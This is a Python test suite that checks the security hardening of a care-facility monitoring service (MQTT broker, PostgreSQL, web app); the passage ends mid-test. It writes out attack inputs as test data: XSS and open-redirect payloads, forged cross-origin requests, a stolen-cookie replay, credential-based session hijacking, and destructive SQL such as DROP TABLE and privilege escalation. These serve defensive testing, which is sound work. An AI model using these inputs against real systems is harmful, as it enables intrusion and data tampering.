"""Attacks, each written as the attacker would try it (issue: security hardening), against real
Mosquitto and PostgreSQL and the real services. Each failed on the code before its fix."""

from __future__ import annotations

import asyncio
import contextlib
import io
import json
import os
import re
import secrets
import subprocess
import sys
import threading
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import aiohttp
import asyncpg
import paho.mqtt.client as mqtt
import pytest
import yaml
from aiohttp.test_utils import TestServer
from paho.mqtt.packettypes import PacketTypes
from paho.mqtt.properties import Properties

from alerts.service import AlertService
from carewatch.provision import provision
from ingest.service import IngestService
from runtime.stack import LocalStack
from storage.registry import load_registry
from storage.users import AuthError, create_user
from tests.conftest import Services, as_role
from tests.helpers import Publisher, payload, wait_for
from tests.test_alert_service import REG, alerts, make, now_ts
from tests.test_alert_service import running as alerts_running
from tests.test_ingest import make_service
from tests.test_ingest import running as ingest_running
from tests.test_provision import REG as PROV_REG
from tests.test_provision import broker  # noqa: F401 - the fixture, requested by name below
from tests.test_web import site  # noqa: F401 - the fixture, requested by name below
from web.ratelimit import RateLimit
from web.throttle import HASH_NICE

FAC = REG.facilities[0]


class _Session:
    """A client with a persistent MQTT 5 session (what ingest and alerts keep at the broker)."""

    def __init__(self, port: int, user: str, password: str, client_id: str, subscribe: str | None = None) -> None:
        self.got: list[str] = []
        self.connected, self.gone = threading.Event(), threading.Event()
        self.c = mqtt.Client(mqtt.CallbackAPIVersion.VERSION2, client_id=client_id, protocol=mqtt.MQTTv5)
        self.c.username_pw_set(user, password)
        self.c.on_connect = lambda *_a: self.connected.set()
        self.c.on_message = lambda _c, _u, m: self.got.append(m.topic)
        self.c.on_disconnect = lambda *_a: self.gone.set()
        props = Properties(PacketTypes.CONNECT)
        props.SessionExpiryInterval = 3600
        self.c.connect("127.0.0.1", port, clean_start=False, properties=props)
        self.c.loop_start()
        if not self.connected.wait(10):
            raise AssertionError(f"{user} could not connect")
        if subscribe:
            done = threading.Event()
            self.c.on_subscribe = lambda *_a: done.set()
            self.c.subscribe(subscribe, qos=1)
            done.wait(10)

    def close(self) -> None:
        self.c.disconnect()
        self.c.loop_stop()


async def test_a_device_credential_cannot_take_over_a_services_broker_session(
    broker: tuple[LocalStack, int],
    db: asyncpg.Connection,
    tmp_path: Path,
) -> None:
    """Finding 1: with one leaked device password, connect under ingest's client id. Before, the
    broker handed over ingest's persistent session: ingest was thrown off and the QoS 1 messages
    queued for it went to the attacker (ingest then got 0 of 3). Now a client id is its username."""
    stack, port = broker
    await load_registry(db, PROV_REG)
    out = tmp_path / "creds"
    await provision(db, stack.mq_dir, out)
    stack.apply_auth()
    fac = PROV_REG.facilities[0]
    services = yaml.safe_load((out / "services.yaml").read_text())
    device = f"{fac.id}/smoke-nap1"
    leaked = yaml.safe_load((out / f"{fac.id}.yaml").read_text())[device]
    victim = _Session(port, "carewatch-ingest", services["carewatch-ingest"], "carewatch-ingest-1", "cw/v1/#")
    for client_id in ("carewatch-ingest-1", "carewatch-ingest"):  # the id it asks for, and its username
        attacker = _Session(port, device, leaked, client_id)
        time.sleep(0.5)
        attacker.close()
        assert not victim.gone.is_set(), f"the service was thrown off its connection by {client_id!r}"
    victim.close()
    sender = _Session(port, device, leaked, "")
    for i in range(3):
        sender.c.publish(f"cw/v1/{device}/event", f'{{"n": {i}}}'.encode(), qos=1).wait_for_publish(10)
    sender.close()
    for client_id in ("carewatch-ingest-1", "carewatch-ingest", ""):  # queued for the offline service
        thief = _Session(port, device, leaked, client_id)
        time.sleep(0.5)
        thief.close()
        assert thief.got == [], f"the service's queued messages went to the device under {client_id!r}"
    victim = _Session(port, "carewatch-ingest", services["carewatch-ingest"], "carewatch-ingest-1")
    deadline = time.monotonic() + 10
    while len(victim.got) < 3 and time.monotonic() < deadline:
        time.sleep(0.05)
    victim.close()
    assert victim.got == [f"cw/v1/{device}/event"] * 3


async def test_a_device_cannot_publish_a_batch_that_speaks_for_another_device(
    services: Services, db_url: str, db: asyncpg.Connection, topic_root: str
) -> None:
    """With a smoke detector's credential (the ACL lets it publish only under its own topic), the
    attacker sends a `batch` holding a panic press 'from' the panic button. Only the gateway may
    speak for other devices: ingest dead-letters it (reason `origin`), the engine ignores it."""
    await load_registry(db, REG)
    smoke = next(d.id for d in FAC.devices if d.type.value == "smoke_detector")
    panic = next(d.id for d in FAC.devices if d.type.value == "panic_button")
    gateway = next(d.id for d in FAC.devices if d.type.value == "gateway")
    forged = {"device_id": panic, "channel": "event", "payload": {"msg_id": "p-1", "ts": now_ts(), "type": "panic"}}
    honest = {"device_id": panic, "channel": "event", "payload": {"msg_id": "p-2", "ts": now_ts(), "type": "panic"}}
    ingest: IngestService = make_service(services, db_url, topic_root)
    engine: AlertService = make(services, db_url, topic_root)
    pub = Publisher(*services.mqtt_host_port)
    try:
        async with ingest_running(ingest), alerts_running(engine):
            base = f"{topic_root}/{FAC.id}"
            pub.publish_all([(f"{base}/{smoke}/batch", payload({"msg_id": "b-evil", "messages": [forged]}))])
            pub.flush()
            await wait_for(lambda: _dead(db, "origin"), 20, "the forged batch dead-lettered")
            assert await alerts(db, "panic_button") == [], "a smoke detector raised a panic as the panic button"
            # the same batch from the facility's gateway is what gateways are for
            pub.publish_all([(f"{base}/{gateway}/batch", payload({"msg_id": "b-ok", "messages": [honest]}))])
            pub.flush()
            await wait_for(lambda: _opened(db, "panic_button"), 20, "the gateway's batch raised the panic")
    finally:
        pub.close()
    [dead] = await db.fetch("SELECT topic, reason, detail FROM dead_letters WHERE reason = 'origin'")
    assert dead["topic"].endswith(f"/{smoke}/batch")
    assert "not the facility's gateway" in dead["detail"]
    assert await db.fetchval("SELECT count(*) FROM events WHERE msg_id = 'p-1'") == 0


async def _dead(db: asyncpg.Connection, reason: str) -> bool:
    return bool(await db.fetchval("SELECT count(*) FROM dead_letters WHERE reason = $1", reason))


async def _opened(db: asyncpg.Connection, rule: str) -> bool:
    await asyncio.sleep(0)
    return bool(await alerts(db, rule))


async def test_readings_from_a_broken_clock_do_not_become_the_latest_for_ever(
    services: Services, db_url: str, db: asyncpg.Connection, topic_root: str
) -> None:
    """A device (or an attacker with its credential) sends readings dated 2099, 9999 and 0001, alone
    and inside a gateway batch. They are dead-lettered with reason `time`; the facility's latest
    reading stays the true one; the same reading at the true time is stored."""
    await load_registry(db, REG)
    env = next(d.id for d in FAC.devices if d.type.value == "env_sensor")
    gateway = next(d.id for d in FAC.devices if d.type.value == "gateway")
    base = f"{topic_root}/{FAC.id}"

    def reading(msg_id: str, ts: str, co2: float) -> dict[str, object]:
        return {"msg_id": msg_id, "ts": ts, "readings": {"co2_ppm": co2}}

    item = {"device_id": env, "channel": "telemetry", "payload": reading("f-3", "9999-12-31T23:59:59Z", 3)}
    ingest = make_service(services, db_url, topic_root)
    pub = Publisher(*services.mqtt_host_port)
    try:
        async with ingest_running(ingest):
            pub.publish_all(
                [
                    (f"{base}/{env}/telemetry", payload(reading("f-1", "2099-01-01T00:00:00Z", 1))),
                    (f"{base}/{env}/telemetry", payload(reading("f-2", "0001-01-01T00:00:00Z", 2))),
                    (f"{base}/{gateway}/batch", payload({"msg_id": "b-1", "messages": [item]})),
                    (f"{base}/{env}/telemetry", payload(reading("ok-1", now_ts(), 612))),
                ]
            )
            pub.flush()
            await wait_for(lambda: _count(db, "SELECT count(*) FROM readings"), 20, "the true reading stored")
            await wait_for(lambda: _count(db, "SELECT count(*) FROM dead_letters", 3), 20, "three dead letters")
    finally:
        pub.close()
    assert [r["value"] for r in await db.fetch("SELECT value FROM readings")] == [612]
    dead = await db.fetch("SELECT topic, reason, detail FROM dead_letters ORDER BY id")
    assert {d["reason"] for d in dead} == {"time"}
    assert any(d["topic"].endswith(f"/{gateway}/batch#0:{env}/telemetry") for d in dead)
    assert any("ahead of its arrival" in d["detail"] for d in dead)
    assert any("days old" in d["detail"] for d in dead)


async def _count(db: asyncpg.Connection, sql: str, at_least: int = 1) -> bool:
    return int(await db.fetchval(sql)) >= at_least


# -- the web ----------------------------------------------------------------------------------------
async def _session(url: str, user: str, password: str) -> aiohttp.ClientSession:
    """A browser-like session signed in through the login form."""
    s = aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True))
    page = await (await s.get(f"{url}/login")).text()
    csrf = re.search(r'name="csrf" value="([^"]+)"', page)
    assert csrf, page
    r = await s.post(f"{url}/login", data={"username": user, "password": password, "csrf": csrf.group(1)})
    assert r.status == 200 and "/login" not in str(r.url), "signed in (an operator lands on their facility)"
    return s


async def test_another_site_cannot_write_through_the_api_with_the_inspectors_cookie(site: dict[str, object]) -> None:
    """A page elsewhere posts text/plain to the API (a 'simple' request: no preflight) while the
    inspector's browser holds a session: the cookie rides along, but the write is refused."""
    url, alert = str(site["url"]), site["alert_a"]
    s = await _session(url, "insp-a", "pw-a")
    try:
        forged = await s.post(
            f"{url}/api/v1/alerts/{alert}/ack",
            data='{"note": "muted by evil.example"}',
            headers={"Content-Type": "text/plain", "Origin": "https://evil.example"},
        )
        assert forged.status == 403
        assert "Origin" in (await forged.json())["error"]
        no_origin = await s.post(f"{url}/api/v1/alerts/{alert}/ack", json={"note": "x"})
        assert no_origin.status == 403
        async with s.get(f"{url}/api/v1/alerts/{alert}") as r:
            assert (await r.json())["acknowledged"] is False, "nothing was acknowledged"
        host = url.split("//", 1)[1]
        own = await s.post(
            f"{url}/api/v1/alerts/{alert}/ack", json={"note": "seen"}, headers={"Origin": f"http://{host}"}
        )
        assert own.status == 200, await own.text()
    finally:
        await s.close()


async def _unacknowledged(db: asyncpg.Connection, alert: object) -> None:
    """The alert back to unacknowledged: the first acknowledgement stands (a second is a 409), and these
    tests send one per redirect target."""
    await db.execute(
        "UPDATE alerts SET acknowledged = false, acknowledged_at = NULL, acknowledged_by = NULL WHERE id = $1", alert
    )


async def test_the_acknowledge_form_does_not_redirect_off_site(site: dict[str, object], db: asyncpg.Connection) -> None:
    url, alert = str(site["url"]), site["alert_a"]
    s = await _session(url, "insp-a", "pw-a")
    try:
        page = await (await s.get(f"{url}/alerts/{alert}")).text()
        csrf = re.search(r'name="csrf" value="([^"]+)"', page)
        assert csrf, page
        for evil in ("//evil.example/x", "https://evil.example/", "/\\evil.example", "javascript:alert(1)"):
            await _unacknowledged(db, alert)
            r = await s.post(
                f"{url}/alerts/{alert}/ack",
                data={"note": "已到场查看", "csrf": csrf.group(1), "back": evil},
                allow_redirects=False,
            )
            assert r.status == 302
            assert r.headers["Location"] == "/alerts", evil
    finally:
        await s.close()


async def test_odd_input_answers_4xx_with_a_reason_never_a_500(site: dict[str, object]) -> None:
    url, alert = str(site["url"]), site["alert_a"]
    auth = {"Authorization": f"Bearer {site['admin']}"}
    async with aiohttp.ClientSession(headers=auth) as s:
        for path in ("/api/v1/alerts/²", "/api/v1/alerts/①", "/api/v1/audit?before=²"):
            async with s.get(url + path) as r:
                assert r.status in {400, 404}, (path, r.status)
        nested = "[" * 100_000 + "]" * 100_000
        async with s.post(f"{url}/api/v1/alerts/{alert}/ack", data=nested) as r:
            assert r.status == 400, await r.text()
        async with s.post(f"{url}/api/v1/alerts/{alert}/ack", json={"note": "a\u0000b"}) as r:
            body = await r.text()
            assert r.status == 400, body
            assert "Error" not in body, "no internal error class names in replies"


async def test_pages_carry_security_headers_and_no_version_banner(site: dict[str, object]) -> None:
    async with aiohttp.ClientSession() as s, s.get(f"{site['url']}/login") as r:
        assert r.status == 200
        csp = r.headers["Content-Security-Policy"]
        assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp
        assert r.headers["X-Content-Type-Options"] == "nosniff"
        assert "aiohttp" not in r.headers.get("Server", "").lower()
        assert "python" not in r.headers.get("Server", "").lower()


async def test_users_create_neither_overwrites_an_account_nor_reads_an_empty_county_as_the_city(
    db: asyncpg.Connection,
) -> None:
    """An operator with CLI access re-creates the admin as an operator of their own facility, or
    makes a city-wide inspector with `--county ""`: both refused, with the reason."""
    await load_registry(db, REG)
    await create_user(db, "chief", "admin", "pw")
    with pytest.raises(AuthError, match="exists: give --update"):
        await create_user(db, "chief", "operator", None, facility=FAC.id)
    assert await db.fetchval("SELECT role FROM users WHERE username = 'chief'") == "admin"
    with pytest.raises(AuthError, match="6-digit code"):
        await create_user(db, "insp", "inspector", None, county="")
    with pytest.raises(AuthError, match="not in county"):
        await create_user(db, "insp", "inspector", None, county="140902", township="140981001")
    with pytest.raises(AuthError, match="no facility"):
        await create_user(db, "op", "operator", None, facility="xz-nowhere")
    assert await db.fetchval("SELECT count(*) FROM users") == 1
    await create_user(db, "chief", "admin", "new-pw", update=True)  # on purpose: allowed


async def _login_form(s: aiohttp.ClientSession, url: str) -> str:
    page = await (await s.get(f"{url}/login")).text()
    csrf = re.search(r'name="csrf" value="([^"]+)"', page)
    assert csrf, page
    return csrf.group(1)


async def test_guessing_a_password_is_throttled_and_audited(site: dict[str, object], db: asyncpg.Connection) -> None:
    """Five wrong passwords for one inspector: the sixth try is refused (429, Retry-After) even
    with the right password, without checking it; every failure is in the audit log."""
    url = str(site["url"])
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as s:
        csrf = await _login_form(s, url)
        for i in range(5):
            r = await s.post(f"{url}/login", data={"username": "insp-a", "password": f"guess-{i}", "csrf": csrf})
            assert r.status == 200 and str(r.url) == f"{url}/login"
        r = await s.post(f"{url}/login", data={"username": "insp-a", "password": "pw-a", "csrf": csrf})
        assert r.status == 429
        assert int(r.headers["Retry-After"]) > 0
        # another person's login from elsewhere is not held up by it
        other = await s.post(f"{url}/login", data={"username": "oper-b", "password": "pw-b", "csrf": csrf})
        assert other.status == 200 and "/login" not in str(other.url)
    failed = await db.fetch("SELECT actor, target FROM audit_log WHERE action = 'login.failed'")
    assert [r["actor"] for r in failed] == ["insp-a"] * 5


def test_passwords_are_hashed_with_argon2id_at_production_cost() -> None:
    """The suite's own users get a cheap argon2id (tests/conftest.py); production's hasher does not: argon2id
    at RFC 9106's second recommended option's cost or more (3 passes, 64 MiB), whatever a test swapped in."""
    from argon2 import Type, extract_parameters

    from tests.conftest import PRODUCTION_HASHER

    p = extract_parameters(PRODUCTION_HASHER.hash("a password"))
    assert p.type is Type.ID
    assert p.time_cost >= 3 and p.memory_cost >= 65536, p
    assert PRODUCTION_HASHER.verify(PRODUCTION_HASHER.hash("x"), "x")


async def test_a_login_does_not_stall_other_requests(site: dict[str, object], monkeypatch: pytest.MonkeyPatch) -> None:
    """Password hashing runs off the event loop: while a login's hash is being checked (made slow
    here), the server still answers other requests."""
    import time

    from storage import users

    real = users._hasher
    slow_started = asyncio.Event()
    loop = asyncio.get_running_loop()

    class SlowHasher:
        def hash(self, pw: str) -> str:
            return real.hash(pw)

        def verify(self, h: str, pw: str) -> bool:
            loop.call_soon_threadsafe(slow_started.set)
            time.sleep(2)  # where login calls it, in a worker thread, this blocks nothing else
            return real.verify(h, pw)

    monkeypatch.setattr(users, "_hasher", SlowHasher())
    url = str(site["url"])
    order: list[str] = []
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as s:
        csrf = await _login_form(s, url)

        async def login() -> None:
            await s.post(f"{url}/login", data={"username": "insp-a", "password": "pw-a", "csrf": csrf})
            order.append("login")

        task = asyncio.create_task(login())
        await asyncio.wait_for(slow_started.wait(), 30)
        async with aiohttp.ClientSession() as other, other.get(f"{url}/healthz") as r:
            assert r.status == 200
            order.append("healthz")
        await task
    assert order == ["healthz", "login"]


async def test_a_stolen_session_cookie_dies_at_logout(site: dict[str, object]) -> None:
    """The inspector logs out on a shared computer; someone kept a copy of the session cookie."""
    url = str(site["url"])
    s = await _session(url, "insp-a", "pw-a")
    stolen = {c.key: c.value for c in s.cookie_jar}
    try:
        page = await (await s.get(f"{url}/")).text()
        csrf = re.search(r'name="csrf" value="([^"]+)"', page)
        assert csrf, "the overview carries the logout form"
        await s.post(f"{url}/logout", data={"csrf": csrf.group(1)})
    finally:
        await s.close()
    async with aiohttp.ClientSession(cookies=stolen) as thief, thief.get(f"{url}/", allow_redirects=False) as r:
        assert r.status == 302 and r.headers["Location"] == "/login"


async def test_disabled_users_revoked_and_expired_tokens_are_refused(
    site: dict[str, object], db: asyncpg.Connection
) -> None:
    from storage.users import revoke_token, set_disabled

    url = str(site["url"])

    async def status(token: object) -> int:
        async with (
            aiohttp.ClientSession() as s,
            s.get(f"{url}/api/v1/alerts", headers={"Authorization": f"Bearer {token}"}) as r,
        ):
            return r.status

    assert await status(site["insp"]) == 200
    assert await set_disabled(db, "insp-a", True, "test")
    assert await status(site["insp"]) == 401
    await set_disabled(db, "insp-a", False, "test")
    assert await status(site["insp"]) == 200
    [(tid,)] = await db.fetch(
        "SELECT t.id FROM api_tokens t JOIN users u ON u.id = t.user_id WHERE u.username = 'oper-b'"
    )
    assert await revoke_token(db, tid, "test")
    assert await status(site["oper"]) == 401
    await db.execute("UPDATE api_tokens SET expires_at = now() - interval '1 second' WHERE id <> $1", tid)
    assert await status(site["admin"]) == 401
    actions = {r["action"] for r in await db.fetch("SELECT action FROM audit_log")}
    assert {"user.disable", "user.enable", "token.revoke"} <= actions


async def test_a_tokens_last_use_is_recorded_to_the_minute(site: dict[str, object], db: asyncpg.Connection) -> None:
    """`carewatch token list` says when a token was last used; a request does not rewrite it (and wait
    for the disk) when it was written less than a minute ago, and does once it is older."""
    url = str(site["url"])

    async def used() -> object:
        return await db.fetchval(
            "SELECT t.last_used_at FROM api_tokens t JOIN users u ON u.id = t.user_id WHERE u.username = 'insp-a'"
        )

    async def call() -> None:
        async with (
            aiohttp.ClientSession() as s,
            s.get(f"{url}/api/v1/alerts", headers={"Authorization": f"Bearer {site['insp']}"}) as r,
        ):
            assert r.status == 200

    await db.execute("UPDATE api_tokens SET last_used_at = NULL")
    await call()
    first = await used()
    assert first is not None, "the first use is recorded"
    await call()
    assert await used() == first, "a use within the minute does not rewrite it"
    await db.execute("UPDATE api_tokens SET last_used_at = now() - interval '61 seconds'")
    old = await used()
    await call()
    assert await used() > old  # type: ignore[operator]


async def test_forbidden_attempts_are_audited(site: dict[str, object], db: asyncpg.Connection) -> None:
    """An inspector tries to load a registry (an admin's job): refused, and the audit log says so."""
    url = str(site["url"])
    async with (
        aiohttp.ClientSession() as s,
        s.post(
            f"{url}/api/v1/registry",
            data="facilities: []",
            headers={"Authorization": f"Bearer {site['insp']}"},
        ) as r,
    ):
        assert r.status == 403
    [row] = await db.fetch("SELECT actor, target, detail FROM audit_log WHERE action = 'forbidden'")
    assert row["actor"] == "insp-a"
    assert row["target"] == "POST /api/v1/registry"
    assert "admin" in row["detail"]


async def test_refused_messages_are_visible_to_their_facility_only_and_escaped(
    site: dict[str, object], db: asyncpg.Connection
) -> None:
    """Dead letters were visible only in SQL. Now the API and a page show them, in scope: the
    operator of B sees B's, not A's; what names no known facility only an admin sees; a payload
    that is a script is shown as text, cut to 500 characters."""
    from tests.test_web import A, B

    script = b"<script>alert(1)</script>" + b"x" * 600
    await db.executemany(
        "INSERT INTO dead_letters (topic, payload, reason, detail, facility_id) VALUES ($1, $2, $3, $4, $5)",
        [
            (f"cw/v1/{A.id}/d/telemetry", b"{", "json", "not valid JSON", A.id),
            (f"cw/v1/{B.id}/d/telemetry", script, "schema", "telemetry: ts: Field required", B.id),
            ("cw/v1/nowhere/d/event", b"{}", "unknown_facility", "facility 'nowhere' is not in the registry", None),
        ],
    )
    url = str(site["url"])

    async def api(token: object) -> list[dict[str, object]]:
        async with (
            aiohttp.ClientSession() as s,
            s.get(f"{url}/api/v1/dead-letters", headers={"Authorization": f"Bearer {token}"}) as r,
        ):
            assert r.status == 200
            return list((await r.json())["dead_letters"])

    oper = await api(site["oper"])
    assert [d["facility_id"] for d in oper] == [B.id]
    assert oper[0]["truncated"] is True and len(str(oper[0]["payload"])) == 500
    assert {d["reason"] for d in await api(site["admin"])} == {"json", "schema", "unknown_facility"}
    assert [d["facility_id"] for d in await api(site["insp"])] == [A.id]
    s = await _session(url, "oper-b", "pw-b")
    try:
        page = await (await s.get(f"{url}/dead-letters")).text()
    finally:
        await s.close()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "<script>alert(1)" not in page
    assert "nowhere" not in page and A.id not in page


# -- who may reach which government page: the privilege table of routes (CONTRACT "Who may do what") -----
# (path, method, what an operator gets, what a county inspector gets). Pages are asked with a signed-in
# session, /api/ paths with the user's token. A 200 for an operator is checked below to hold its own facility's
# rows only. Add a route here when it is one a facility must not reach, or reaches only for itself.
WHO_MAY_REACH: tuple[tuple[str, str, int, int], ...] = (
    ("/assessment", "GET", 404, 200),  # 督导评估 grades the departments: their own business
    ("/assessment?year=2026&by=township", "GET", 404, 200),
    ("/assessment/summons", "POST", 404, 403),  # a 约谈 form (the inspector's post lacks its CSRF token)
    ("/api/v1/assessment", "GET", 404, 200),
    ("/api/v1/assessment?format=csv", "GET", 404, 200),
    ("/api/v1/assessment/summonses", "GET", 403, 200),
    ("/registry", "GET", 200, 200),  # the operator's own facility only
    ("/dead-letters", "GET", 200, 200),  # the operator's own facility only
    ("/api/v1/dead-letters", "GET", 200, 200),
    ("/draws", "GET", 404, 200),  # 双随机: a facility never learns it was drawn before the visit
    ("/statistics", "GET", 403, 200),  # 信息统计监测: the departments'
    ("/audit", "GET", 404, 404),  # an admin's
    ("/api/v1/audit", "GET", 403, 403),
)


async def test_p_an_operator_reaches_no_government_page_and_only_its_own_rows(
    site: dict[str, object], db: asyncpg.Connection
) -> None:
    """A newcomer signed in as facility B's operator opened /assessment (the departments' 督导评估) by URL:
    it answered 200 with the area's ranking, and /api/v1/assessment gave the same as JSON and CSV (before,
    the menu alone hid them; these rows failed). /registry and /dead-letters stay open to the operator, for
    its own facility: no other facility's id appears on them, while the county inspector sees A's."""
    from tests.test_web import REG, A, B

    await db.executemany(
        "INSERT INTO dead_letters (topic, payload, reason, detail, facility_id) VALUES ($1, $2, 'json', 'bad', $3)",
        [(f"cw/v1/{f.id}/d/telemetry", b"{", f.id) for f in REG.facilities],
    )
    url = str(site["url"])
    others = [f.id for f in REG.facilities if f.id != B.id]
    sessions = {"oper": await _session(url, "oper-b", "pw-b"), "insp": await _session(url, "insp-a", "pw-a")}
    try:
        for path, method, oper_gets, insp_gets in WHO_MAY_REACH:
            for who, expected in (("oper", oper_gets), ("insp", insp_gets)):
                if path.startswith("/api/"):
                    headers = {"Authorization": f"Bearer {site[who]}"}
                    async with aiohttp.ClientSession() as s, s.request(method, f"{url}{path}", headers=headers) as r:
                        status, body = r.status, await r.text()
                else:
                    async with sessions[who].request(method, f"{url}{path}", allow_redirects=False) as r:
                        status, body = r.status, await r.text()
                assert status == expected, (who, method, path, status, body[:300])
                if who == "oper" and status == 200:
                    assert B.id in body, (path, body[:300])
                    leaked = [f for f in others if re.search(rf"\b{re.escape(f)}\b", body)]
                    assert not leaked, (path, leaked)
                if who == "insp" and status == 200 and "dead-letters" in path:
                    assert A.id in body and B.id not in body, path
        page = await (await sessions["oper"].get(f"{url}/registry")).text()
        assert re.findall(r'data-facility="([^"]+)"', page) == [B.id], "the operator's registry: its own facility"
    finally:
        for s in sessions.values():
            await s.close()


async def test_a_few_poison_messages_cost_a_few_transactions_and_lose_nothing(
    services: Services, db_url: str, db: asyncpg.Connection, topic_root: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Among 300 events, three carry a NUL character (which PostgreSQL cannot store) and three a
    value this test's database refuses by a CHECK constraint (standing in for any refusal the
    contract did not foresee). The NULs are refused at the door (reason `schema`, the database never
    sees them); what the database refuses is written again in halves, not message by message
    (reason `storage`); the 294 others are stored."""
    from ingest import service as ingest_service

    await load_registry(db, REG)
    await db.execute("ALTER TABLE events ADD CONSTRAINT test_refuses CHECK (payload->>'note' <> 'refused')")
    door = next(d.id for d in FAC.devices if d.type.value == "access_controller")
    ts = now_ts()
    notes = dict.fromkeys((5, 150, 290), "nul \x00 here") | dict.fromkeys((77, 201, 299), "refused")
    msgs = [
        (
            f"{topic_root}/{FAC.id}/{door}/event",
            payload(
                {
                    "msg_id": f"e-{i}",
                    "ts": ts,
                    "type": "door_held_open",
                    "state": "active",
                    "note": notes.get(i, "fine"),
                }
            ),
        )
        for i in range(300)
    ]
    writes = 0
    real_write = ingest_service.write_batch

    async def counting(conn: asyncpg.Connection, d: object, cache: object = None) -> object:
        nonlocal writes
        writes += 1
        return await real_write(conn, d, cache)  # type: ignore[arg-type]

    monkeypatch.setattr(ingest_service, "write_batch", counting)
    ingest = make_service(services, db_url, topic_root, batch_size=1000)
    pub = Publisher(*services.mqtt_host_port)
    try:
        async with ingest_running(ingest):
            pub.publish_all(msgs)
            pub.flush()
            await wait_for(lambda: _count(db, "SELECT count(*) FROM events", 294), 30, "the good events stored")
            await wait_for(lambda: _count(db, "SELECT count(*) FROM dead_letters", 6), 30, "the poison dead-lettered")
    finally:
        pub.close()
    assert await db.fetchval("SELECT count(*) FROM events") == 294
    dead = await db.fetch("SELECT reason, detail FROM dead_letters ORDER BY reason")
    assert [r["reason"] for r in dead] == ["schema"] * 3 + ["storage"] * 3
    assert all("NUL character" in r["detail"] for r in dead[:3]), dead
    assert writes < 100, f"{writes} writes for 300 messages: one by one?"


@pytest.mark.parametrize("kind", ["idle", "absolute"])
async def test_sessions_end_when_idle_and_after_their_lifetime(db: asyncpg.Connection, db_url: str, kind: str) -> None:
    """A session left idle ends (idle limit), and a busy one ends at its absolute limit anyway. The
    limits are shrunk from 2 h / 12 h to 2 s / 5 s here; the checks are the server's, not the cookie's."""
    from web.app import create_app

    await create_user(db, "insp-s", "inspector", "pw-s", county="140902")
    server = TestServer(
        create_app(as_role(db_url, "web"), secrets.token_bytes(32), session_limits=(2.0, 5.0)), host="127.0.0.1"
    )
    await server.start_server()
    url = str(server.make_url("")).rstrip("/")
    s = await _session(url, "insp-s", "pw-s")
    try:
        async with s.get(f"{url}/", allow_redirects=False) as r:
            assert r.status == 200
        if kind == "idle":
            await asyncio.sleep(2.5)
        else:
            alive = 0
            for _ in range(7):  # busy: a request every second keeps it from going idle...
                await asyncio.sleep(1.0)
                async with s.get(f"{url}/", allow_redirects=False) as r:
                    if r.status != 200:
                        break
                    alive += 1
            assert alive >= 3, "activity kept it past the idle limit"  # ...but never past its lifetime
        async with s.get(f"{url}/", allow_redirects=False) as r:
            assert r.status == 302 and r.headers["Location"] == "/login"
    finally:
        await s.close()
        await server.close()


@pytest.mark.parametrize(
    ("service", "attempt"),
    [
        ("ingest", "SELECT password_hash FROM users"),
        ("ingest", "SELECT * FROM children"),
        ("ingest", "DELETE FROM readings"),
        ("ingest", "SELECT carewatch_drop_chunks('users')"),
        ("alerts", "SELECT token_hash FROM api_tokens"),
        ("alerts", "SELECT password_hash FROM users"),
        ("alerts", "DELETE FROM notification_deliveries"),
        (
            "alerts",
            "INSERT INTO readings (time, facility_id, device_id, metric, value, msg_id)"
            " VALUES (now(), 'f', 'd', 'm', 1, 'x')",
        ),
        ("web", "UPDATE users SET role = 'admin'"),
        ("web", "SELECT password_hash FROM mqtt_credentials"),
        (
            "web",
            "INSERT INTO readings (time, facility_id, device_id, metric, value, msg_id)"
            " VALUES (now(), 'f', 'd', 'm', 1, 'x')",
        ),
        ("web", "DROP TABLE alerts"),
        ("web", "CREATE TABLE mine (x int)"),
    ],
)
async def test_a_services_database_role_can_do_only_its_work(db_url: str, service: str, attempt: str) -> None:
    """Finding 7: every service connected as a superuser, so one SQL injection or a stolen service
    password was the whole database. Each service now has its own role (storage.roles): not a
    superuser, owning nothing, refused what its work does not need."""
    conn = await asyncpg.connect(as_role(db_url, service))
    try:
        assert (
            await conn.fetchval(
                "SELECT rolsuper OR rolcreaterole OR rolcreatedb FROM pg_roles WHERE rolname = current_user"
            )
            is False
        )
        with pytest.raises(
            asyncpg.PostgresError, match=r"permission denied|must be owner|not a table with a retention"
        ):
            await conn.execute(attempt)
    finally:
        await conn.close()


async def test_ingest_prunes_by_age_only_through_the_owners_function(db: asyncpg.Connection, db_url: str) -> None:
    """Retention needs the table owner's right to drop chunks: ingest gets it only through
    carewatch_drop_chunks, which drops what is older than the retention and nothing younger."""
    insert = "INSERT INTO readings (time, facility_id, device_id, metric, value, msg_id)"
    for age, msg_id in ((timedelta(days=400), "old"), (timedelta(days=1), "new")):
        await db.execute(f"{insert} VALUES (now() - $1::interval, 'f', 'd', 'm', 1, $2)", age, msg_id)
    conn = await asyncpg.connect(as_role(db_url, "ingest"))
    try:
        assert await conn.fetchval("SELECT carewatch_drop_chunks('readings')") >= 1
    finally:
        await conn.close()
    assert [r["msg_id"] for r in await db.fetch("SELECT msg_id FROM readings")] == ["new"]


# -- round two (issue #38) --------------------------------------------------------------------------
async def _csrf_of(s: aiohttp.ClientSession, url: str) -> str:
    page = await (await s.get(url)).text()
    csrf = re.search(r'name="csrf" value="([^"]+)"', page)
    assert csrf, page
    return csrf.group(1)


async def test_l_a_unicode_digit_in_a_form_field_is_a_400_with_its_reason(site: dict[str, object]) -> None:
    """Finding L: `alert_id=²` on the order form. Python's str.isdigit() says "²" is a digit and int()
    refuses it: a 500. Now the form comes back with the reason, 400, and no order is issued."""
    from tests.test_web import A

    url = str(site["url"])
    s = await _session(url, "insp-a", "pw-a")
    try:
        csrf = await _csrf_of(s, f"{url}/facilities/{A.id}")
        due = (datetime.now(UTC) + timedelta(days=7)).strftime("%Y-%m-%dT%H:%M")
        reasons = {"alert_id": "该告警不属于此机构", "inspection_id": "检查"}
        for field, odd in (("alert_id", "²"), ("alert_id", "①"), ("inspection_id", "٣"), ("alert_id", "9" * 30)):
            form = {"csrf": csrf, "title": "整改", "due_at": due, field: odd}
            async with s.post(f"{url}/facilities/{A.id}/orders", data=form, allow_redirects=False) as r:
                body = await r.text()
